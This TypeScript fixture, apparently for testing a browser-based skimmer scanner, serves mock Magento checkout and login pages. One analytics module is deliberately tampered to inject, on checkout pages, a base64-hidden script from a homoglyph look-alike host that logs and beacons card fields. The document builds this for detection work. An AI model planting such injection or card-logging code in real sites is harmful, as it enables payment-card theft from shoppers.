import type { Route } from './route.js';

/**
 * The demo store's payment pages (issue 12): cart, checkout and login load their modules the
 * RequireJS way after load, every script listed in demo/inventory.yaml, and one authorised
 * module has been tampered with: on checkout pages it injects, at run time only, a script
 * from a look-alike analytics host whose address is base64 in the module, so neither the HTML
 * nor a static read of the module names it. Only a browser sees it (SCR-01, SCR-02, SCR-04).
 */

/** An i for the l of google-analytics (written googIe, the URL parser lower-cases it): a homoglyph look-alike. */
export const SKIMMER_HOST = 'www.googie-analytics.test';
export const SKIMMER_PATH = '/analytics.js';

export const STATIC = '/static/version1700000000/frontend/Magento/luma/en_US/';

/** The security-impacting headers of every store page, as the inventory records them (SCR-03). */
export const PAGE_HEADERS: Readonly<Record<string, string>> = {
  'x-content-type-options': 'nosniff',
  'x-xss-protection': '0',
  'referrer-policy': 'no-referrer-when-downgrade',
  'content-security-policy-report-only': "default-src 'self'; report-uri /csp-report",
  'strict-transport-security': 'max-age=3600',
};

/**
 * The one inline script of each payment page, the same text everywhere so that one inventory
 * entry (by its sha256) authorises it; the page's <body data-modules> says what to load.
 */
export const BOOTSTRAP = `require(JSON.parse(document.body.getAttribute('data-modules')), function (theme) { theme.init(); });`;

/** A small RequireJS: require() waits for load, then injects one <script> per module. */
const REQUIRE_JS = `(function () {
  var base = '${STATIC}', modules = {}, waiting = {};
  function load(name) {
    if (waiting[name]) return;
    waiting[name] = [];
    var s = document.createElement('script');
    s.src = base + name + '.js';
    s.async = true;
    document.head.appendChild(s);
  }
  function all(deps, done) {
    var left = deps.length;
    if (!left) return done();
    deps.forEach(function (d) {
      if (modules[d]) { if (--left === 0) done(); return; }
      load(d);
      waiting[d].push(function () { if (--left === 0) done(); });
    });
  }
  window.define = function (name, factory) {
    modules[name] = { value: factory() };
    (waiting[name] || []).forEach(function (cb) { cb(); });
  };
  window.require = function (deps, cb) {
    var go = function () { all(deps, function () { cb.apply(null, deps.map(function (d) { return modules[d].value; })); }); };
    if (document.readyState === 'complete') go(); else window.addEventListener('load', go);
  };
})();
`;

const THEME = `define('Magento_Theme/js/theme', function () {
  return { init: function () { document.documentElement.className += ' js-ready'; } };
});
`;

const PAYMENT = `define('Magento_Checkout/js/view/payment', function () {
  var total = document.getElementById('order-total');
  if (total) total.textContent = 'Order total: 59.00 EUR';
  return {};
});
`;

/**
 * An analytics extension the store approved, as an attacker left it: the original tracker plus,
 * on checkout pages only, a script element whose src is decoded from base64 after load.
 */
const tampered = (skimmerUrl: string) => `define('Vendor_Analytics/js/tracker', function () {
  window.dataLayer = window.dataLayer || [];
  window.dataLayer.push({ event: 'page_view', page: location.pathname });
  if (/checkout/.test(location.pathname)) setTimeout(function () {
    var s = document.createElement('script');
    s.src = atob('${Buffer.from(skimmerUrl).toString('base64')}');
    document.head.appendChild(s);
  }, 100);
  return {};
});
`;

/** What the look-alike host serves: a field logger that would beacon card fields home on input (the demo never types). */
const SKIMMER = `(function () {
  document.addEventListener('input', function (e) {
    if (/cc_|card|cvv/i.test(e.target.name || '')) navigator.sendBeacon('/collect', e.target.name + '=' + e.target.value);
  }, true);
})();
`;

function page(title: string, body: string, modules: readonly string[]): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<script src="${STATIC}requirejs/require.js"></script>
</head><body class="checkout-index-index" data-modules='${JSON.stringify(['Magento_Theme/js/theme', 'Vendor_Analytics/js/tracker', ...modules])}'>
<header><a href="/">Demo Store</a> <a href="/checkout/cart/">Cart</a></header>
<main>${body}</main>
<script>${BOOTSTRAP}</script>
</body></html>
`;
}

const html = (body: string, headers: Readonly<Record<string, string>>): Route => ({
  status: 200,
  headers: { ...headers, 'content-type': 'text/html; charset=UTF-8' },
  body,
});
const js = (body: string, headers: Readonly<Record<string, string>>): Route => ({
  status: 200,
  headers: { ...headers, 'content-type': 'application/javascript' },
  body,
});

/** The store's payment pages and their scripts, by path; `skimmerOrigin` is where the tampered module points. */
export function checkoutRoutes(skimmerOrigin: string, versioned: Readonly<Record<string, string>>): Record<string, Route> {
  const headers = { ...versioned, ...PAGE_HEADERS };
  return {
    '/checkout/cart/': html(page('Shopping Cart', '<h1>Shopping Cart</h1><p>1 item</p><a href="/checkout/">Proceed to Checkout</a>', []), headers),
    '/checkout/': html(
      page(
        'Checkout',
        '<h1>Checkout</h1><p id="order-total"></p><form id="co-payment-form" action="/checkout/onepage/saveOrder/" method="post"><input name="payment[cc_owner]"><input name="payment[cc_number]" autocomplete="cc-number"><button>Place Order</button></form>',
        ['Magento_Checkout/js/view/payment'],
      ),
      headers,
    ),
    '/customer/account/login/': html(
      page(
        'Customer Login',
        '<h1>Customer Login</h1><form action="/customer/account/loginPost/" method="post"><input name="login[username]"><input type="password" name="login[password]"><button>Sign In</button></form>',
        [],
      ),
      headers,
    ),
    [`${STATIC}requirejs/require.js`]: js(REQUIRE_JS, versioned),
    [`${STATIC}Magento_Theme/js/theme.js`]: js(THEME, versioned),
    [`${STATIC}Magento_Checkout/js/view/payment.js`]: js(PAYMENT, versioned),
    [`${STATIC}Vendor_Analytics/js/tracker.js`]: js(tampered(`${skimmerOrigin}${SKIMMER_PATH}`), versioned),
  };
}

/** What the look-alike host answers, by path. */
export const SKIMMER_ROUTES: Readonly<Record<string, Route>> = {
  [SKIMMER_PATH]: { status: 200, headers: { 'content-type': 'application/javascript' }, body: SKIMMER },
};
